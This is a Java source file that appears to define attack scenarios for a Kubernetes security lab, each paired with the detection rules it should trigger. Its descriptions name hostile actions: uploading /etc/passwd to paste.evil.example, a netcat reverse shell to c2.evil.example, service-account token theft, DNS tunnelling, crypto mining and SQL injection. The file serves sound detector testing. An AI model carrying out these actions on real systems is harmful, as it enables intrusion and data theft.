package dev.vigil.lab.attack;

import dev.vigil.lab.LabStatus;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/**
 * Every attack scenario of the lab, in the order {@code all} runs them, with the detections each
 * should raise: the rule names of Vigil's built-in detectors ({@code docs/detection.md}) and of its
 * default host rules ({@code rules/vigil_rules.yaml}), the scenario's main detection first. The
 * baseline detections (egress, API contact) fire for workloads in monitor or protect mode.
 */
public final class Scenarios {

    /** The name that runs every scenario. */
    public static final String ALL = "all";
    /** Pause between scenarios when running {@value #ALL}, so detections do not blur into each other. */
    public static final Duration DEFAULT_PAUSE = Duration.ofSeconds(2);

    private static final List<Scenario> SCENARIOS = List.of(
            new Scenario("port-scan", "nmap TCP connect (-sT) and SYN (-sS) scans of the api pod and a UDP scan (-sU) of kube-dns",
                    source("shop-web", "frontend"), List.of("Port scan", "Network scanner run in container"), new PortScan()),
            new Scenario("ping-sweep", "ICMP echo to every address of the source pod's /24 (busybox ping, 64 at a time)",
                    source("shop-web", "frontend"), List.of("Ping sweep"), new PingSweep()),
            new Scenario("egress", "upload /etc/passwd to paste.evil.example over HTTP, GET https://updates.example.com/",
                    source("shop-web", "frontend"), List.of("Unexpected egress"), new Egress()),
            new Scenario("api-contact", "list pods from the Kubernetes API with the pod's service-account token (curl)",
                    source("shop-web", "frontend"), List.of("Unexpected Kubernetes API contact"), new ApiContact()),
            new Scenario("token-read", "cat the service-account token",
                    source("shop-api", "api"), List.of("Service account token read"), new TokenRead()),
            new Scenario("shell", "interactive shell with a terminal; a shell spawned by the api's httpd through command injection",
                    source("shop-api", "api"), List.of("Terminal shell in container", "Shell spawned by a server process"),
                    new Shell()),
            new Scenario("reverse-shell", "busybox nc -e /bin/sh to a listener on c2.evil.example:4444 that types commands",
                    source("shop-web", "frontend"), List.of("Reverse shell", "Netcat with command execution"), new ReverseShell()),
            new Scenario("drift", "write a program that is not in the image into the container and run it",
                    source("shop-api", "api"), List.of("Drift - executable not in the image"), new Drift()),
            new Scenario("fileless", "run a program from a memfd (perl: memfd_create, exec /proc/self/fd/N)",
                    source("shop-api", "api"), List.of("Fileless execution"), new Fileless()),
            new Scenario("shm-exec", "copy a program to /dev/shm and run it from there",
                    source("shop-data", "postgres"), List.of("Execution from /dev/shm"), new ShmExec()),
            new Scenario("miner", "Stratum mining.subscribe/authorize/submit with pool.minexmr.example:3333 (busybox nc)",
                    source("shop-data", "cache"), List.of("Crypto mining protocol", "Crypto mining pool name",
                    "Connection to a mining pool port"), new Miner()),
            new Scenario("plaintext", "plain HTTP into shop-payments, labelled vigil.dev/encryption: required",
                    source("shop-web", "frontend"), List.of("Plaintext traffic into encrypted namespace"), new Plaintext()),
            new Scenario("weak-tls", "TLS 1.0 and 1.1 handshakes with a legacy server on legacy.example.net:443 (openssl)",
                    new SourceRef("loadgen", "loadgen", "tls"), List.of("TLS older than 1.2"), new WeakTls()),
            new Scenario("sqli", "SQL injection (tautology, UNION SELECT) into the api's product CGI, which passes it to psql",
                    source("shop-web", "frontend"), List.of("SQL injection in HTTP request", "SQL injection in database query"),
                    new SqlInjection()),
            new Scenario("dns-tunnel", "gzipped files hex-encoded into DNS labels under t.evil.example, then a burst of TXT queries",
                    source("shop-api", "api"), List.of("DNS tunnelling"), new DnsTunnel()));

    private Scenarios() {
    }

    /** Every scenario, in the order {@value #ALL} runs them. */
    public static List<Scenario> all() {
        return SCENARIOS;
    }

    /** Every scenario name, then {@value #ALL}. */
    public static List<String> names() {
        List<String> names = new ArrayList<>(SCENARIOS.stream().map(Scenario::name).toList());
        names.add(ALL);
        return names;
    }

    public static Optional<Scenario> named(String name) {
        return SCENARIOS.stream().filter(s -> s.name().equals(name)).findFirst();
    }

    /**
     * Runs {@code scenarios} one after another with {@code pause} between them, each from
     * {@code from} when given, else from its default source. Every scenario runs even when an
     * earlier one failed.
     */
    public static List<ScenarioResult> run(List<Scenario> scenarios, LabStatus lab, SourceRef from, Duration pause,
                                           AttackListener listener) throws InterruptedException {
        List<ScenarioResult> results = new ArrayList<>();
        for (Scenario s : scenarios) {
            if (!results.isEmpty()) {
                Thread.sleep(pause.toMillis());
            }
            SourceRef ref = from != null ? from : s.defaultSource();
            Source source;
            try {
                source = ref.resolve(lab);
            } catch (AttackException e) {
                long now = AttackRun.nowNanos();
                ScenarioResult unresolved = new ScenarioResult(s.name(), ref.toString(), s.expectedRules(), now, now, now, List.of(),
                        List.of(), List.of(), e.getMessage());
                listener.scenarioDone(unresolved);
                results.add(unresolved);
                continue;
            }
            results.add(s.run(lab, source, listener));
        }
        return results;
    }

    private static SourceRef source(String namespace, String workload) {
        return new SourceRef(namespace, workload, null);
    }
}
